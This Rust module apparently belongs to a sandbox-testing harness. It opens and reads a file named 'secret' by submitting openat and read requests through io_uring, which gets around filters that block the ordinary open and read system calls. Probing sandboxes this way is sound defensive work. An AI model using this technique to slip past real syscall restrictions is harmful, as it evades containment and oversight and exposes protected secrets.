//! A file opened and read by the kernel's own thread, without the system calls for it.

use super::{Attempt, PROOF};
use crate::call;
use crate::call::{Result, written};

const SETUP_WORDS: usize = 30;
const OFFSET_SUBMISSIONS: i64 = 0;
const OFFSET_ENTRIES: i64 = 0x1000_0000;
const OP_OPENAT: u8 = 18;
const OP_READ: u8 = 22;
const WAIT: i32 = 1;

/// `struct io_uring_sqe`, as far as it is used here.
#[repr(C)]
#[derive(Clone, Copy, Default)]
struct Entry {
    operation: u8,
    flags: u8,
    priority: u16,
    descriptor: i32,
    offset: u64,
    address: u64,
    length: u32,
    open_flags: u32,
    rest: [u64; 4],
}

/// Both rings (IORING_FEAT_SINGLE_MMAP) and the entries.
struct Ring {
    descriptor: i32,
    rings: usize,
    entries: usize,
    words: [u32; SETUP_WORDS],
}

/// Opens the secret file and reads it.
pub(super) fn take(it: &mut Attempt<'_>) -> Result {
    let ring = set_up()?;
    let file = ring.perform(Entry {
        operation: OP_OPENAT,
        descriptor: libc::AT_FDCWD,
        address: it.text("secret").as_ptr() as u64,
        ..Entry::default()
    })?;
    let read = ring.perform(Entry {
        operation: OP_READ,
        descriptor: file,
        address: it.proof.as_mut_ptr() as u64,
        length: PROOF as u32,
        ..Entry::default()
    })?;
    it.length = read as usize;
    Ok(())
}

fn set_up() -> Result<Ring> {
    let mut words = [0_u32; SETUP_WORDS];
    let descriptor = call!(SYS_io_uring_setup, 4, written(&mut words))? as i32;
    let (access, shared) = (libc::PROT_READ | libc::PROT_WRITE, libc::MAP_SHARED);
    let map = |offset| call!(SYS_mmap, 0, 4096, access, shared, descriptor, offset);
    let (rings, entries) = (map(OFFSET_SUBMISSIONS)?, map(OFFSET_ENTRIES)?);
    Ok(Ring { descriptor, rings, entries, words })
}

impl Ring {
    /// Submits one request and waits for its result.
    fn perform(&self, entry: Entry) -> Result<i32> {
        // struct io_uring_params: ten words, then sq_off (head, tail, ring_mask, ring_entries, flags,
        // dropped, array, …) and, ten words further, cq_off (head, tail, ring_mask, ring_entries,
        // overflow, cqes, …).
        let word = |index: usize| (self.rings + self.words[index] as usize) as *mut u32;
        let (tail, array) = (word(11), word(16));
        let (done_head, done_tail, done) = (word(20), word(21), word(25));
        // SAFETY: all of these lie in the two pages that were mapped for this ring, at the offsets
        // that the kernel has named; nobody else submits here.
        unsafe {
            (self.entries as *mut Entry).write(entry);
            array.write(0);
            // One entry in a ring of four: whatever its place there, it is number 0.
            array.add((tail.read() & 3) as usize).write(0);
            tail.write(tail.read().wrapping_add(1));
        }
        call!(SYS_io_uring_enter, self.descriptor, 1, 1, WAIT, 0, 0)?;
        // SAFETY: as above; the kernel has filled in a completion of four words.
        let result = unsafe {
            let head = done_head.read();
            if head == done_tail.read() {
                return Err(libc::ENODATA);
            }
            let result = done.add(((head & 7) * 4 + 2) as usize).read().cast_signed();
            done_head.write(head.wrapping_add(1));
            result
        };
        if result < 0 { Err(-result) } else { Ok(result) }
    }
}
